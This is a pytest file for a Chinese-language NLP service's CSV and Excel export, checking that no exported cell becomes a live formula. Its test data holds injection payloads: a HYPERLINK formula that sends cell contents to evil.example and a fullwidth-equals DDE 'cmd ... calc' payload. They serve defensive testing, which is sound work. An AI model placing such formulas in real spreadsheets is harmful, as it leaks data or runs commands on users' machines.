"""Results as tables: what people open in Excel is what was found, and nothing of it runs."""

import csv
import io
import json

import openpyxl
import pytest

from nlp_service.domain.submission import Kind, Mode, Submission
from nlp_service.export.cells import LONGEST_CELL, make_safe
from nlp_service.export.csv import write_csv_head, write_csv_rows
from nlp_service.export.flat import column_names, flatten
from nlp_service.export.tables import Column, Table, write_csv_table, write_xlsx_tables
from nlp_service.export.xlsx import write_xlsx
from nlp_service.jobs.lines import document_of

BODY = "去年汛期东堤塌了两处，淹了三十户。\n建议市水利局汛期前加固，所需经费约二十万元。"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看这里")'


@pytest.fixture(scope="module")
def lines(assessor):
    submissions = [
        Submission(id="2026-1", title="关于加固东堤的建议", body=BODY, kind=Kind.PROPOSAL),
        Submission(id="@SUM(A1)", title=FORMULA, body=BODY, kind=Kind.PUBLIC_MESSAGE),
    ]
    found = [
        {"row": n, "where": f"第 {n} 行", "status": "ok", "assessment": told}
        for n, told in enumerate(
            (
                document_of(one, None, explain=False)
                for one in assessor.assess_many(submissions, mode=Mode.FAST)
            ),
            start=1,
        )
    ]
    refused = {"code": "empty_text", "message": "清理后没有可读的文字，请填写标题或正文。"}
    found.append({"row": 3, "where": "第 3 行", "status": "refused", "id": "＝1", "error": refused})
    return json.loads(json.dumps(found))


def read_csv(content):
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_a_row_has_a_cell_for_every_column(lines):
    names = column_names()

    assert len(set(names)) == len(names)
    for line in lines:
        assert len(flatten(line)) == len(names)


def test_csv_and_xlsx_hold_the_same_cells(lines, tmp_path):
    head, *rows = read_csv(write_csv_head() + write_csv_rows(lines[:2]) + write_csv_rows(lines[2:]))

    assert write_xlsx(tmp_path / "结果.xlsx", [lines[:1], lines[1:]]) == 3
    sheet = openpyxl.load_workbook(tmp_path / "结果.xlsx").active
    first, *others = sheet.iter_rows(values_only=True)
    assert list(first) == head == list(column_names())
    as_text = [["" if cell is None else str(cell) for cell in row] for row in others]
    assert as_text == rows


def test_a_table_says_labels_by_name_and_code(lines):
    cells = dict(zip(column_names(), flatten(lines[0]), strict=True))

    assert cells["状态"] == "已分拣"
    assert cells["类型"] == "提案"
    topic = lines[0]["assessment"]["topic"]
    assert cells["议题"] == f"{topic['name']}（{topic['code']}）"
    assert cells["议题把握"] == round(topic["probability"], 3)
    assert {cells["该不该提"], cells["有没有调研"], cells["具体可行否"]} <= {"是", "否", "存疑"}
    assert cells["全文"] == lines[0]["assessment"]["text"]
    refused = dict(zip(column_names(), flatten(lines[2]), strict=True))
    assert (refused["编号"], refused["状态"], refused["议题"]) == ("＝1", "未分拣", None)
    assert refused["未分拣的原因"] == lines[2]["error"]["message"]


def test_no_cell_of_a_table_is_a_formula(lines, tmp_path):
    table = read_csv(write_csv_head() + write_csv_rows(lines))
    for cell in (cell for row in table for cell in row):
        assert cell[:1] not in tuple("=+-@\t\r＝＋－＠")
    write_xlsx(tmp_path / "结果.xlsx", [lines])
    for row in openpyxl.load_workbook(tmp_path / "结果.xlsx").active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert cell.hyperlink is None


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+8613800000000",
        "-2+3",
        "@SUM(A1:A9)",
        "＝cmd|' /C calc'!A0",
        "＋1",
        "－1",
        "＠a",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "　=1",
        "\u200b=1",
        "\ufeff=1",
        "\x00=1",
    ],
)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    (safe,) = make_safe([text])

    assert safe.startswith("'")
    assert make_safe([safe]) == [safe]


@pytest.mark.parametrize("cell", ["路灯坏了", "1+1=2", "A-3 栋", "", "（-）", 3, -2.5, None, True])
def test_any_other_cell_stays_as_it_is(cell):
    assert make_safe([cell]) == [cell]


def test_what_no_cell_can_hold_is_cut_or_left_out():
    (long, odd) = make_safe(["长" * 40_000, "甲\ud800乙\x07丙\uffff丁"])

    assert len(long) == LONGEST_CELL
    assert long.endswith("以下略）")
    assert odd == "甲乙丙丁"


def test_a_sheet_that_is_full_is_followed_by_another(lines, tmp_path, monkeypatch):
    monkeypatch.setattr("nlp_service.export.xlsx.MOST_ROWS", 2)

    assert write_xlsx(tmp_path / "结果.xlsx", [lines, lines[:2]]) == 5

    sheets = openpyxl.load_workbook(tmp_path / "结果.xlsx").worksheets
    assert [sheet.max_row - 1 for sheet in sheets] == [2, 2, 1]
    assert all(sheet["A1"].value == "序号" for sheet in sheets)


# --- small tables ------------


@pytest.fixture
def table():
    return Table(
        name="界别",
        columns=[Column(name="界别"), Column(name="件数"), Column(name="占比", share=True)],
        rows=[["=1+1", 3, 0.75], ["工商联", 1, None]],
        note="@一件可以关系几个界别。",
    )


def test_a_small_table_is_the_same_as_csv_and_as_a_sheet(table):
    head, *rows = read_csv(write_csv_table(table))
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx_tables([table, table_named("单位")])))

    assert book.sheetnames == ["界别", "单位"]
    first, *others = book["界别"].iter_rows(values_only=True)
    assert list(first) == head == ["界别", "件数", "占比"]
    assert rows == [["'=1+1", "3", "0.75"], ["工商联", "1", ""], [], ["'@一件可以关系几个界别。"]]
    assert others[:2] == [("'=1+1", 3, 0.75), ("工商联", 1, None)]
    assert others[-1][0] == "'@一件可以关系几个界别。"
    assert book["界别"]["C2"].number_format == "0.0%"


def table_named(name):
    return Table(name=name, columns=[Column(name=name)], rows=[])
